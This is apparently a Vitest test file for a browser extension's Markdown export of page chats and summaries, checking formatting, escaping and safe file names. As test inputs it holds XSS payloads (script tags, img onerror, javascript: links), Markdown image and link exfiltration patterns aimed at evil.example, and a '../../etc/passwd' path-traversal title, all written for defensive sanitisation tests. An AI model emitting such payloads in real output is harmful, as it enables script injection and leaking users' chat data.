// @vitest-environment jsdom
import { describe, expect, test } from 'vitest';
import type { Conversation } from '../../../src/protocol';
import {
  chatMarkdown,
  chatsMarkdown,
  escapeMarkdown,
  exportFileName,
  shownMarkdown,
  summaryMarkdown,
} from '../../../src/ui/export-markdown';
import { pageLinks, renderMarkdown } from '../../../src/ui/markdown';

const ENGINE = { model: 'Qwen2.5 0.5B', engine: 'WASM' };
const DATE = new Date(Date.UTC(2026, 11, 4, 9, 30));

const tides: Conversation = {
  id: 'c1',
  url: 'https://example.org/tides?x=1',
  title: 'How tides work',
  createdAt: DATE.getTime(),
  updatedAt: DATE.getTime(),
  links: ['https://example.org/moon'],
  messages: [
    { id: 'q1', role: 'user', content: 'Why *two* tides?', createdAt: 1, selection: 'The moon pulls.' },
    {
      id: 'a1',
      role: 'assistant',
      content: 'The **moon** pulls; see [the moon](https://example.org/moon).',
      createdAt: 2,
      sources: [
        { index: 0, heading: 'Gravity', text: 'The moon pulls the\nsea toward it.' },
        { index: 3, heading: null, text: 'A second bulge forms opposite.' },
      ],
      status: 'complete',
    },
  ],
};

describe('a chat as Markdown', () => {
  const markdown = chatMarkdown(tides, ENGINE, DATE);

  test('starts with the page title, its URL, the date, the model and the engine', () => {
    const [title, , kind, , ...facts] = markdown.split('\n');
    expect(title).toBe('# How tides work');
    expect(kind).toBe('*Chat*');
    expect(facts.slice(0, 4)).toEqual([
      '- Page: <https://example.org/tides?x=1>',
      expect.stringMatching(/^- Date: December 4, 2026/),
      '- Model: Qwen2.5 0.5B',
      '- Engine: WASM',
    ]);
  });

  test('has each question as text, each answer as shown, and each answer’s sources as quotes', () => {
    expect(markdown).toContain(
      '## Question\n\n*About this selection*\n\n> The moon pulls.\n\nWhy \\*two\\* tides?',
    );
    expect(markdown).toContain(
      '## Answer\n\nThe **moon** pulls; see [the moon](<https://example.org/moon>).\n\n**Sources**\n\n' +
        '> **Gravity**\n> The moon pulls the sea toward it.\n\n> **Passage 4**\n> A second bulge forms opposite.\n',
    );
  });

  test('every chat in one file, each under its own heading', () => {
    const all = chatsMarkdown([tides, { ...tides, id: 'c2', title: 'Second' }], ENGINE);
    expect(all.startsWith('# Pagewise chats\n\n## How tides work\n')).toBe(true);
    expect(all).toContain('\n---\n\n## Second\n');
    expect(all.match(/^### Answer$/gm)).toHaveLength(2);
  });
});

describe('exported text is what the reader saw, and nothing in it runs or fetches', () => {
  test.each([
    ['raw HTML', 'Hi <script>alert(1)</script><img src=x onerror=alert(1)>', /<script|<img/],
    ['an image', '![secret](https://evil.example/?q=read)', /!\[|evil\.example/],
    ['a link that is not on the page', '[click](https://evil.example/?q=read)', /\]\(/],
    ['a javascript: link', '[click](javascript:alert(1))', /\]\(/],
  ])('%s', (_, answer, forbidden) => {
    const shown = shownMarkdown(answer, pageLinks([]));
    expect(shown).not.toMatch(forbidden);
    // Rendered again, it shows the same text as the original did on screen, and no element but text.
    const again = new DOMParser().parseFromString(renderMarkdown(shown), 'text/html').body;
    const before = new DOMParser().parseFromString(renderMarkdown(answer), 'text/html').body;
    expect(again.textContent?.replace(/\s+/g, ' ').trim()).toBe(
      before.textContent?.replace(/\s+/g, ' ').trim(),
    );
    expect(again.querySelector('script, img, a, iframe')).toBeNull();
  });

  test('page text that looks like Markdown stays text', () => {
    expect(escapeMarkdown('# not a heading')).toBe('\\# not a heading');
    expect(escapeMarkdown('1. not a list <b>&')).toBe('1\\. not a list &lt;b&gt;&amp;');
    const summary = summaryMarkdown({
      title: '<img src=x> [a](https://evil.example)',
      url: 'https://example.org/a b',
      date: DATE,
      engine: { model: null, engine: 'WebGPU' },
      text: '- one\n- **two**\n\n```js\nlet a = `b`;\n```',
    });
    expect(summary.split('\n')[0]).toBe('# &lt;img src=x&gt; \\[a\\](https://evil.example)');
    expect(summary).toContain('- Page: <https://example.org/a%20b>');
    expect(summary).not.toContain('- Model:');
    expect(summary).toContain('- one\n- **two**\n\n```\nlet a = `b`;\n```\n');
  });

  test('a file name is made of the title’s words and the date, never a path', () => {
    expect(exportFileName('../../etc/passwd: Tides', DATE)).toBe('etc-passwd-Tides-2026-12-04.md');
    expect(exportFileName('', DATE)).toBe('pagewise-2026-12-04.md');
  });
});
